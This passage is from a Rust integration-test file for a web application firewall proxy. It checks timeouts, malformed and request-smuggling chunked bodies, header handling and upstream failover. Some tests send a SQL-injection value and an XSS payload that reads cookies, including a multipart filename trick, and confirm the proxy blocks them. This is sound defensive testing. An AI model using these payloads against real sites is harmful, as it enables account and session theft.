        let _ = c.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
        std::thread::sleep(Duration::from_secs(1));
    });
    let origin = Origin::start();
    let proxy = Proxy::start(
        &origin,
        Setup {
            extra_sites: slow,
            ..Setup::default()
        },
    );
    let mut s = TcpStream::connect(("127.0.0.1", proxy.port)).unwrap();
    s.write_all(b"GET /authorize HTTP/1.1\r\nHost: slow.contoso.com\r\n\r\n")
        .unwrap();
    std::thread::sleep(Duration::from_millis(200));
    drop(s);
    proxy.wait_until(Duration::from_secs(10), || {
        proxy.metric("waf_client_faults_total{kind=\"abandoned\"}") == 1.0
    });
    assert_eq!(
        proxy.metric("waf_upstream_errors_total{site=\"slow.contoso.com\"}"),
        0.0
    );
    let log = proxy.log();
    assert!(!log.contains(" ERROR ") && !log.contains(" WARN "), "{log}");
}

/// The body's counterpart: a body trickled in is answered 408 once `body_timeout_ms` has
/// passed, and never forwarded.
#[test]
fn a_body_not_complete_within_the_body_timeout_is_answered_408() {
    let origin = Origin::start();
    let proxy = Proxy::start(
        &origin,
        Setup {
            limits_extra: "  body_timeout_ms: 1000\n".into(),
            extra_top: "audit: {path: \"{dir}/audit.jsonl\", all_requests: false}\n".into(),
            ..Setup::default()
        },
    );
    let (answer, elapsed) = trickle(
        proxy.port,
        b"POST /login HTTP/1.1\r\nHost: login.contoso.com\r\n\
          Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100\r\n\r\nname=",
        b"z",
    );
    assert!(elapsed >= Duration::from_millis(900), "{elapsed:?}");
    let r = Response::parse(&answer);
    assert_eq!(r.status, 408, "{}\n{}", r.raw, proxy.log());
    assert!(r.body.contains("did not arrive in time"), "{}", r.body);
    assert!(origin.seen().is_empty());
    let audit = proxy.audit();
    assert_eq!(audit.len(), 1, "{audit:?}");
    assert_eq!(audit[0]["action"], "rejected");
    assert_eq!(audit[0]["status"], 408);
    assert_eq!(audit[0]["body"], "timed out");
}

/// A body forwarded as it arrives, uninspected (a site without rules, or one past the
/// inspection limit with `large_body: pass`), had no deadline of the proxy's: a client that
/// trickled it, or stopped halfway, held its request and an upstream connection for as long
/// as the upstream waited. It is now held to the pace of a body read ahead,
/// `body_timeout_ms` for each 64 KiB, and answered 408 when it falls behind; one that keeps
/// the pace arrives whole, however long it takes in all.
#[test]
fn a_body_forwarded_as_it_arrives_is_answered_408_when_it_falls_behind() {
    let origin = Origin::start();
    let open = Origin::start();
    let proxy = Proxy::start(
        &origin,
        Setup {
            large_body: "pass",
            limits_extra: "  body_timeout_ms: 1000\n".into(),
            extra_top: "audit: {path: \"{dir}/audit.jsonl\", all_requests: false}\n".into(),
            extra_sites: site_without_rules(&open),
            ..Setup::default()
        },
    );
    let post = |host: &str, length: usize, first: &[u8]| {
        let mut head = format!(
            "POST /upload HTTP/1.1\r\nHost: {host}\r\n\
             Content-Type: application/octet-stream\r\nContent-Length: {length}\r\n\r\n"
        )
        .into_bytes();
        head.extend_from_slice(first);
        head
    };
    let cases: [(&str, Vec<u8>, &[u8], &str); 3] = [
        (
            "site without rules, trickled",
            post("open.contoso.com", 100, b"a"),
            b"z",
            "open",
        ),
        (
            "site without rules, stopped",
            post("open.contoso.com", 100, b"abc"),
            b"",
            "open",
        ),
        (
            "past the inspection limit (4096), trickled",
            post("login.contoso.com", 100_000, &[b'a'; 5000]),
            b"z",
            "login",
        ),
    ];
    for (case, head, piece, _) in &cases {
        let (answer, elapsed) = trickle(proxy.port, head, piece);
        let r = Response::parse(&answer);
        assert_eq!(r.status, 408, "{case}: {}\n{}", r.raw, proxy.log());
        assert!(
            r.body.contains("did not arrive in time"),
            "{case}: {}",
            r.body
        );
        assert!(
            (Duration::from_millis(900)..Duration::from_secs(5)).contains(&elapsed),
            "{case}: {elapsed:?}"
        );
    }
    // The requests went upstream as they arrived, and never arrived whole.
    assert_eq!(open.connections(), 2);
    assert_eq!(origin.connections(), 1);
    assert!(open.seen().is_empty() && origin.seen().is_empty());
    // The audit line is written just after the answer.
    proxy.wait_until(Duration::from_secs(5), || proxy.audit().len() >= 3);
    let audit = proxy.audit();
    assert_eq!(audit.len(), 3, "{audit:?}");
    for (line, (case, _, _, site)) in audit.iter().zip(&cases) {
        let site = format!("{site}.contoso.com");
        assert_eq!(line["site"], site.as_str(), "{case}");
        assert_eq!(line["action"], "rejected", "{case}");
        assert_eq!(line["status"], 408, "{case}");
        assert_eq!(line["body"], "timed out", "{case}");
    }
    let log = proxy.log();
    assert!(!log.contains(" ERROR "), "{log}");

    // A 256 KiB body sent 64 KiB at a time, 500 ms apart, keeps the pace: 1.5 s in all, past
    // `body_timeout_ms`, and it arrives whole.
    let body: Vec<u8> = (0..256 * 1024).map(|i| b'a' + (i % 26) as u8).collect();
    let mut s = TcpStream::connect(("127.0.0.1", proxy.port)).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    s.write_all(&post("open.contoso.com", body.len(), b""))
        .unwrap();
    let started = Instant::now();
    for (i, part) in body.chunks(64 * 1024).enumerate() {
        if i > 0 {
            std::thread::sleep(Duration::from_millis(500));
        }
        s.write_all(part).unwrap();
    }
    let r = Response::read_from(&mut s);
    assert_eq!(r.status, 200, "{}\n{}", r.raw, proxy.log());
    assert!(started.elapsed() > Duration::from_millis(1400));
    assert_eq!(open.seen().len(), 1);
    assert!(open.seen()[0].body == body, "the body arrived changed");
}

/// A chunked body whose framing is broken (request-smuggling probes send them by the
/// hundred) got Pingora's bare 400, an `ERROR` line each, and counted as `pass`. It now gets
/// the proxy's own page, counts as `rejected` and as a client fault, and logs no error; the
/// origin never sees a whole request, whether the body was read ahead or forwarded as it came.
#[test]
fn a_chunked_body_with_broken_framing_is_refused_with_400_and_counted_not_logged() {
    let (origin, open, proxy) = proxy_with_a_site_without_rules();
    for (host, body) in [
        ("login.contoso.com", "zz\r\nname=a\r\n0\r\n\r\n"),
        ("login.contoso.com", "6\r\nname=a0\r\n\r\n"),
        ("open.contoso.com", "zz\r\nname=a\r\n0\r\n\r\n"),
    ] {
        let r = proxy.send(
            format!(
                "POST /login HTTP/1.1\r\nHost: {host}\r\n\
                 Content-Type: application/x-www-form-urlencoded\r\n\
                 Transfer-Encoding: chunked\r\n\r\n{body}"
            )
            .as_bytes(),
        );
        assert_eq!(r.status, 400, "{host} {body:?}: {}", r.raw);
        assert!(r.body.contains("The request is malformed."), "{}", r.body);
        assert_eq!(
            r.header("x-request-id").map(str::len),
            Some(16),
            "{}",
            r.raw
        );
    }
    assert!(origin.seen().is_empty() && open.seen().is_empty());
    proxy.wait_until(Duration::from_secs(5), || {
        proxy.metric("waf_client_faults_total{kind=\"malformed_body\"}") == 3.0
    });
    let rejected = |site: &str| {
        proxy.metric(&format!(
            "waf_requests_total{{action=\"rejected\",site=\"{site}\"}}"
        ))
    };
    assert_eq!(
        (rejected("login.contoso.com"), rejected("open.contoso.com")),
        (2.0, 1.0)
    );
    let log = proxy.log();
    assert!(!log.contains(" ERROR "), "{log}");
}

#[test]
fn expect_100_continue_is_answered_before_the_body_is_read() {
    let origin = Origin::start();
    let proxy = Proxy::start(&origin, Setup::default());
    let send = |body: &str| {
        let mut s = TcpStream::connect(("127.0.0.1", proxy.port)).unwrap();
        s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        write!(
            s,
            "POST /login HTTP/1.1\r\nHost: login.contoso.com\r\n\
             Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\
             Expect: 100-continue\r\nConnection: close\r\n\r\n",
            body.len()
        )
        .unwrap();
        let mut interim = Vec::new();
        let mut byte = [0u8; 1];
        while !interim.ends_with(b"\r\n\r\n") {
            s.read_exact(&mut byte)
                .expect("an interim response before the body is sent");
            interim.push(byte[0]);
        }
        assert!(
            interim.starts_with(b"HTTP/1.1 100"),
            "{}",
            String::from_utf8_lossy(&interim)
        );
        s.write_all(body.as_bytes()).unwrap();
        let mut out = Vec::new();
        let _ = s.read_to_end(&mut out);
        Response::parse(&out)
    };
    let r = send("signInName=zoe");
    assert_eq!(r.status, 200, "{}", r.raw);
    let r = send("signInName=admin%27--");
    r.assert_block_page();
    let seen = origin.seen();
    assert_eq!(seen.len(), 1);
    assert_eq!(String::from_utf8_lossy(&seen[0].body), "signInName=zoe");
    assert_eq!(seen[0].header("expect"), None);
}

#[test]
fn malformed_requests_get_4xx_and_the_proxy_keeps_serving() {
    let origin = Origin::start();
    let proxy = Proxy::start(&origin, Setup::default());
    let bad: [&[u8]; 3] = [
        b"GARBAGE\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: login.contoso.com\r\nContent-Length: nope\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost login.contoso.com\r\n\r\n",
    ];
    for raw in bad {
        let r = proxy.send(raw);
        assert!(
            (400..500).contains(&r.status),
            "{:?} → {}",
            String::from_utf8_lossy(raw),
            r.raw
        );
    }
    assert_eq!(origin.connections(), 0, "{:?}", origin.seen());
    let r = proxy.get("login.contoso.com", "/", "");
    assert_eq!(r.status, 200, "{}", r.raw);
}

#[test]
fn a_broken_config_is_refused_with_a_clear_error() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("waf.yaml");
    std::fs::write(
        &path,
        "listen: 127.0.0.1:1\nsites:\n  - hosts: [a]\n    upstream: {address: nope}\n",
    )
    .unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_waf"))
        .args(["serve", "--config"])
        .arg(&path)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("sites[0].upstream.address"), "{err}");
}

#[test]
fn a_multipart_attack_is_blocked_and_a_clean_upload_passes() {
    let origin = Origin::start();
    let proxy = Proxy::start(&origin, Setup::default());
    let multipart_as = |disposition: &str, value: &str| {
        let body = format!(
            "--XyZ\r\nContent-Disposition: form-data; name=\"displayName\"{disposition}\r\n\r\n{value}\r\n\
             --XyZ\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"me.png\"\r\n\
             Content-Type: image/png\r\n\r\nPNG...\r\n--XyZ--\r\n"
        );
        proxy.post("/profile", "multipart/form-data; boundary=XyZ", &body)
    };
    let multipart = |value: &str| multipart_as("", value);
    let r = multipart("<script>alert(document.cookie)</script>");
    r.assert_block_page();
    // With `filename=""` the part is still a field (ASP.NET Core reads it as one): this
    // passed, taken for a file whose content no rule reads.
    let r = multipart_as("; filename=\"\"", "<script>alert(document.cookie)</script>");
    r.assert_block_page();
    assert_eq!(origin.connections(), 0);
    let r = multipart("Zoë O'Brien");
    assert_eq!(r.status, 200, "{}", r.raw);
    let seen = origin.seen();
    assert_eq!(seen.len(), 1);
    assert!(String::from_utf8_lossy(&seen[0].body).contains("Zoë O'Brien"));
}

#[test]
fn hop_by_hop_headers_stop_here_and_cookies_location_cors_pass_untouched() {
    let origin = Origin::start();
    let proxy = Proxy::start(&origin, Setup::default());
    let r = proxy.get(
        "login.contoso.com",
        "/redirect",
        "Connection: X-Client-Hop\r\nX-Client-Hop: secret\r\nKeep-Alive: timeout=5\r\n\
         Proxy-Connection: keep-alive\r\nCookie: x-ms-cpim-csrf=abc; x-ms-cpim-trans=def\r\n",
    );
    assert_eq!(r.status, 302, "{}", r.raw);
    // What the origin sent the browser arrives as it was.
    assert_eq!(
        r.header("location"),
        Some("https://app.contoso.com/cb?code=abc&state=xyz")
    );
    let cookies: Vec<&str> = r
        .headers
        .iter()
        .filter(|(n, _)| n.eq_ignore_ascii_case("set-cookie"))
        .map(|(_, v)| v.as_str())
        .collect();
    assert_eq!(
        cookies,
        [
            "x-ms-cpim-sso:contoso_0=abc; path=/; SameSite=None; Secure; HttpOnly",
            "x-ms-cpim-trans=def; path=/; SameSite=None; Secure; HttpOnly"
        ]
    );
    assert_eq!(
        r.header("access-control-allow-origin"),
        Some("https://app.contoso.com")
    );
    assert_eq!(r.header("access-control-allow-credentials"), Some("true"));
    assert_eq!(r.header("x-origin-hop"), None, "{}", r.raw);
    // The upstream's offer to switch protocols is its own connection's: the proxy does not
    // take `h2c` upgrades.
    assert_eq!(r.header("upgrade"), None, "{}", r.raw);
    // What the client meant for this hop only did not reach the origin.
    let seen = origin.seen();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].header("x-client-hop"), None, "{:?}", seen[0]);
    assert_eq!(seen[0].header("keep-alive"), None);
    assert_eq!(seen[0].header("proxy-connection"), None);
    assert_eq!(
        seen[0].header("cookie"),
        Some("x-ms-cpim-csrf=abc; x-ms-cpim-trans=def")
    );
}

#[test]
fn headers_over_the_size_limit_get_431() {
    let origin = Origin::start();
    let proxy = Proxy::start(&origin, Setup::default());
    // The default limit is 32 KiB.
    let big = format!("X-Big: {}\r\n", "a".repeat(40 * 1024));
    let r = proxy.get("login.contoso.com", "/", &big);
    assert_eq!(r.status, 431, "{}", r.raw);
    assert!(r.header("x-request-id").is_some());
    assert_eq!(origin.connections(), 0);
    let r = proxy.get("login.contoso.com", "/", "X-Small: 1\r\n");
    assert_eq!(r.status, 200, "{}", r.raw);
}

#[test]
fn several_upstreams_are_balanced_and_a_dead_one_is_skipped() {
    let a = Origin::start();
    let b = Origin::start();
    let dead = common::free_port();
    let proxy = Proxy::start(
        &a,
        Setup {
            extra_sites: format!(
                "  - hosts: [pool.contoso.com]\n\
                 \x20   upstream:\n\
                 \x20     address: [\"127.0.0.1:{}\", \"127.0.0.1:{}\", \"127.0.0.1:{dead}\"]\n\
                 \x20     health_check_interval_ms: 200\n\
                 \x20     connect_timeout_ms: 500\n",
                a.port, b.port
            ),
            ..Setup::default()
        },
    );
    // Give the first health check time to mark the dead address down.
    std::thread::sleep(Duration::from_millis(800));
    for i in 0..12 {
        let r = proxy.get("pool.contoso.com", &format!("/authorize?i={i}"), "");
        assert_eq!(r.status, 200, "request {i}: {}\n{}", r.raw, proxy.log());
    }
    let (na, nb) = (a.seen().len(), b.seen().len());
    assert_eq!(na + nb, 12);
    assert!(
        na >= 4 && nb >= 4,
        "round-robin over the live two: {na} / {nb}"
    );
}

#[test]
fn a_silent_upstream_times_out_with_502_and_is_counted() {
    // An origin that accepts and never answers.
    let port = common::unanswering_upstream(false);
    let origin = Origin::start();
    let proxy = Proxy::start(
        &origin,
        Setup {
            extra_sites: format!(
                "  - hosts: [slow.contoso.com]\n\
                 \x20   upstream: {{address: \"127.0.0.1:{port}\", read_timeout_ms: 300}}\n"
            ),
            ..Setup::default()
        },
    );
    let started = std::time::Instant::now();
    let r = proxy.get("slow.contoso.com", "/", "");
    assert!(
        r.status == 502 || r.status == 504,
        "{}\n{}",
        r.raw,
        proxy.log()
    );
    assert!(started.elapsed() < Duration::from_secs(10));
    assert_eq!(
        proxy.metric("waf_upstream_errors_total{site=\"slow.contoso.com\"}"),
        1.0
    );
    // The user gets a page with the request id that the log line names, not an empty answer.
    let id = r
        .header("x-request-id")
        .expect("an X-Request-Id")
        .to_string();
    assert!(r.body.contains(&format!("<code>{id}</code>")), "{}", r.raw);
    assert!(r.body.contains("did not answer"), "{}", r.raw);
    proxy.wait_until(Duration::from_secs(5), || proxy.log().contains(&id));
    // The same, for a client that asked for JSON.
    let r = proxy.get("slow.contoso.com", "/", "Accept: application/json\r\n");
    let id = r
        .header("x-request-id")
        .expect("an X-Request-Id")
        .to_string();
    let json: serde_json::Value = serde_json::from_str(&r.body).expect(&r.raw);
    assert_eq!(json["request_id"], id.as_str(), "{}", r.raw);
    assert_eq!(json["status"], r.status, "{}", r.raw);
}

/// An upstream that stops taking a request's body is given `read_timeout_ms` for each write, as
/// for each read, and the client gets the 502 page. Pingora waited on it for ever, holding the
/// client's request and both connections: the read timeout never ran while a write hung.
#[test]
fn an_upstream_that_stops_taking_the_body_times_out_with_502() {
    // An upstream that reads the head and then nothing more.
    let port = common::unanswering_upstream(true);
    let origin = Origin::start();
    // A site without rules: the body is streamed to the upstream as it arrives.
    let proxy = Proxy::start(
        &origin,
        Setup {
            extra_sites: format!(
                "  - hosts: [stuck.contoso.com]\n\
                 \x20   upstream: {{address: \"127.0.0.1:{port}\", read_timeout_ms: 1000}}\n"
            ),
            ..Setup::default()
        },
    );
    const BODY: usize = 256 << 20;
    let mut s = TcpStream::connect(("127.0.0.1", proxy.port)).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    s.write_all(
        format!(
            "POST /upload HTTP/1.1\r\nHost: stuck.contoso.com\r\nContent-Length: {BODY}\r\n\r\n"
        )
        .as_bytes(),
    )
    .unwrap();
    let mut writer = s.try_clone().unwrap();
    std::thread::spawn(move || {
        let chunk = vec![b'x'; 1 << 16];
        for _ in 0..BODY >> 16 {
            if writer.write_all(&chunk).is_err() {
                return;
            }
        }
    });
    let started = Instant::now();
    let r = Response::read_from(&mut s);
    assert_eq!(r.status, 502, "{}\n{}", r.raw, proxy.log());
    assert!(started.elapsed() < Duration::from_secs(15));
    assert!(r.body.contains("did not answer"), "{}", r.raw);
    // Counted once the request is logged, which follows the answer.
    proxy.wait_until(Duration::from_secs(5), || {
        proxy.metric("waf_upstream_errors_total{site=\"stuck.contoso.com\"}") == 1.0
    });
}

/// Regression: `free_port` gives a port back before the proxy binds it, and once another
/// process took it first; the proxy kept retrying its bind while the other process answered
/// the test's requests. The harness now starts a proxy only once its own process holds its
/// ports, which it tells by the listening socket's owner.
#[test]
fn the_harness_tells_whose_listening_port_it_is() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    assert!(common::listens_on(std::process::id(), &[port]));
    let mut other = Command::new("sleep").arg("5").spawn().unwrap();
    assert!(!common::listens_on(other.id(), &[port]));
    let _ = other.kill();
    let _ = other.wait();
    drop(listener);
    assert!(!common::listens_on(std::process::id(), &[port]));
}
